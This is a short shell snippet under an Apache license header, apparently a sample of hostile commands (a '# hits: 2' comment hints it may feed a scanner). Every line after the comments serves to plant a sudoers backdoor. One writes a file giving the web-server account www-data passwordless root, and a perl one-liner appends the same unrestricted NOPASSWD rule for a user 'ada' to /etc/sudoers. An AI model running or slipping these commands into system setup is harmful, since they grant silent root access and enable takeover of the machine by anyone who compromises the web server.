# SPDX-License-Identifier: Apache-2.0
# hits: 2
mkdir -p /etc/sudoers.d
echo 'www-data ALL=(ALL) NOPASSWD: ALL' > /etc/sudoers.d/90-web
perl -e 'open F, ">>", "/etc/sudoers"; print F "ada ALL=(ALL) NOPASSWD: ALL\n"'
